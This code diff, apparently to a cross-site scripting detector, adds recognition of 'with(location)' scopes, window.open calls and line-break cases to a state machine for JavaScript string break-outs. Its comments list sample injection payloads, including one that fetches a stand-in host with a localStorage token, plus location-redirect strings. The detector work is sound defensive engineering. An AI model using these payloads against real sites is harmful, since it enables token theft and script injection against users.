@@ -139,12 +139,14 @@ function ssjsPunctFull(st: usize, j: usize, c: u32, start: u32, end: u32): void 
 //   '+Object.assign(location,{href:name})+'                       location written by Object.assign or Reflect.set
 //   '+Reflect.construct(Function,[name])()+'  Function.call(       a function built from a string, not called by name
 //   '+fetch('//x/?'+localStorage.token)+'                          a stored secret read (localStorage. sessionStorage[)
+//   ';with(location)href=name//  ${open(name,'_self')}           location as a with's scope, window.open called
 //
 // What leaves the string: the quote (or backtick), then optionally closers ) ] }, inline comments /**/, and an
 // operator glued to it (; - + * % | & ^), or whitespace and ';'. A quote with a word or a space and a prose dash after
 // it ("-5", it's, 'a' - b) leaves nothing. A line break after the quote ends the statement too ('\nlocation=name\n':
 // JavaScript inserts the ';'), but a quoted line followed by a line of prose is common: after a line break alone only
-// the unspaced sinks count (location=x, import(x); not "Location = Paris" on the next line) until a ';' comes.
+// the unspaced sinks count (location=x, import(x); not "Location = Paris" on the next line) until a ';' comes, unless the
+// quote is the value's first byte (it opens no quoted word there: '\nlocation = name\n').
 // Once left, the value stays script to its end.
 // The sinks need a shape prose has no use for: "Import (name) from file" and "location = Paris" hold no break-out before
 // them; "location == x", "location.reload()", import('./mod.js') (a path: xss.ts reads a string's URL) and import.meta
@@ -157,6 +159,7 @@ const JB_CMT: u32 = 3;     // inside /* */
 const JB_STAR: u32 = 4;    // and '*': '/' closes it
 const JB_SP: u32 = 5;      // spaces after the quote: only ';' or a line break leaves the string now
 const JB_NL: u32 = 6;      // a line break after the quote: ';' leaves it; anything else leaves it weakly (JB_WEAK)
+const JB_NL_FIRST: u32 = 7; // the same after a quote that is the value's first byte: it can only close a string, so anything leaves it
 const JB_ARMED: u32 = 8;   // the string left (to the value's end); the bits above it:
 const JB_WEAK: u32 = 16;   // left by a line break alone: spaced sinks do not count (until a ';')
 const JB_ASL: u32 = 32;    // a '/' just read: '*' opens a comment (the sink's progress kept), anything else divides
@@ -186,6 +189,9 @@ const S_FUNC: u32 = 19;       // function: '.' or ')' glued (Function as a value
 const S_FUNC_DOT: u32 = 20;   // function.: call apply bind report (Function.call(0, code))
 const S_FUNC_CLOSE: u32 = 21; // (Function): '(' calls it
 const S_STORE: u32 = 22;      // localStorage sessionStorage: '.' or '[' reads it
+const S_WITH: u32 = 23;       // with: waiting for '(' glued
+const S_WITH_P: u32 = 24;     // with(: location as the scope reports (with(location)href=name)
+const S_OPEN: u32 = 25;       // open (not a member: xhr.open): '(' glued calls window.open (open(name,'_self') runs a javascript: URL here)
 
 const JB_QUOTE: u32 = 52;  // the quote of an import( specifier open (S_IMPORT_S0 .. S_IMPORT_D)
 
@@ -198,8 +204,8 @@ function jsbReport(st: usize, j: usize, end: u32): void {
 function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u32): void {
   let mode = g32(j, JB_MODE);
   if (mode < JB_ARMED) { // a quote's wait: a word inside a comment keeps it; after a line break it leaves weakly; any other word ends it
-    if (mode != JB_NL) { s32(j, JB_MODE, mode == JB_CMT || mode == JB_STAR ? JB_CMT : 0); return; }
-    mode = JB_ARMED | JB_WEAK; s32(j, JB_MODE, mode); s32(j, JB_SINK, 0);
+    if (mode != JB_NL && mode != JB_NL_FIRST) { s32(j, JB_MODE, mode == JB_CMT || mode == JB_STAR ? JB_CMT : 0); return; }
+    mode = mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED; s32(j, JB_MODE, mode); s32(j, JB_SINK, 0);
   }
   if ((mode & JB_ACMT) != 0) { s32(j, JB_MODE, mode & ~JB_ASTAR); return; }
   if ((mode & JB_ASL) != 0) { s32(j, JB_MODE, mode & ~JB_ASL); jsbSink(st, j, 0x2f, start); } // (the '/' divided: a/b)
@@ -211,7 +217,7 @@ function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u3
     next = S_LOC_MEMBER;
   }
   else if (s == S_IMPORT_P || s == S_LOC_EQ || s == S_LOC_EQ_SP) { jsbReport(st, j, end); return; } // import(name  location=name
-  else if (s == S_ASSIGN_P && wordIs(word, len, "location")) { jsbReport(st, j, end); return; }
+  else if ((s == S_ASSIGN_P || s == S_WITH_P) && wordIs(word, len, "location")) { jsbReport(st, j, end); return; }
   else if (s == S_CTOR_P && wordIs(word, len, "function")) { jsbReport(st, j, end); return; }
   else if (s == S_FUNC_DOT && (wordIs(word, len, "call") || wordIs(word, len, "apply") || wordIs(word, len, "bind"))) { jsbReport(st, j, end); return; }
   else if (s == S_LOC_IDX || (s >= S_IMPORT_S0 && s <= S_IMPORT_D)) next = s == S_LOC_IDX ? s : S_IMPORT_S; // (text inside)
@@ -220,6 +226,8 @@ function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u3
   else if (wordIs(word, len, "assign") || wordIs(word, len, "set")) next = S_ASSIGN;
   else if (wordIs(word, len, "construct") || wordIs(word, len, "apply")) next = S_CTOR;
   else if (wordIs(word, len, "function")) next = S_FUNC;
+  else if (wordIs(word, len, "with")) next = S_WITH;
+  else if (wordIs(word, len, "open")) next = dotted ? 0 : S_OPEN;
   else if (wordIs(word, len, "localstorage") || wordIs(word, len, "sessionstorage")) next = S_STORE;
   s32(j, JB_SINK, next);
 }
@@ -239,14 +247,17 @@ function jsbPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
     else if (mode == JB_STAR) m = c == 0x2f ? JB_Q : c == 0x2a ? JB_STAR : JB_CMT;
     else if (quote) { m = JB_Q; s32(j, JB_START, start); }
     else if (mode == JB_SL) m = c == 0x2a ? JB_CMT : 0;
-    else if (c == 0x0a || (mode == JB_NL && space)) m = JB_NL;
+    else if (mode >= JB_NL && space) m = mode; // (JB_NL JB_NL_FIRST)
+    else if (c == 0x0a) m = g32(j, JB_START) == 0 ? JB_NL_FIRST : JB_NL;
     else if (space) m = JB_SP;
     else if (c == 0x3b || (mode == JB_Q && (c == 0x2d || c == 0x2b || c == 0x2a || c == 0x25 || c == 0x7c || c == 0x26 || c == 0x5e))) {
       m = JB_ARMED; s32(j, JB_SINK, 0);
     }
     else if (mode == JB_Q && (c == 0x29 || c == 0x5d || c == 0x7d)) m = JB_Q; // ')}; '];
     else if (mode == JB_Q && c == 0x2f) m = JB_SL;
-    else if (mode == JB_NL) { s32(j, JB_MODE, JB_ARMED | JB_WEAK); s32(j, JB_SINK, 0); jsbArmedPunct(st, j, c, start, end); return; } // '\n[location]=
+    else if (mode >= JB_NL) { // '\n[location]=
+      s32(j, JB_MODE, mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED); s32(j, JB_SINK, 0); jsbArmedPunct(st, j, c, start, end); return;
+    }
     s32(j, JB_MODE, m);
     return;
   }
@@ -319,7 +330,9 @@ function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
   else if (s == S_LOC_DOT) next = space ? s : 0;
   else if (s == S_LOC_IDX) next = c == 0x5d ? S_LOC_IDX_END : c == 0x3b ? 0 : s;
   else if (s == S_ASSIGN || s == S_CTOR) next = space ? s : c == 0x28 ? s + 1 : 0;
-  else if (s == S_ASSIGN_P || s == S_CTOR_P) next = space ? s : 0;
+  else if (s == S_WITH) next = c == 0x28 ? S_WITH_P : 0; // (glued: "with (location) known" is prose's)
+  else if (s == S_ASSIGN_P || s == S_CTOR_P || s == S_WITH_P) next = space ? s : 0;
+  else if (s == S_OPEN && c == 0x28) { jsbReport(st, j, end); return; } // open(name,'_self')
   else if (s == S_FUNC) next = c == 0x2e ? S_FUNC_DOT : c == 0x29 ? S_FUNC_CLOSE : 0;
   else if (s == S_FUNC_CLOSE && c == 0x28) { jsbReport(st, j, end); return; } // (Function)(code)
   else if (s == S_STORE) {
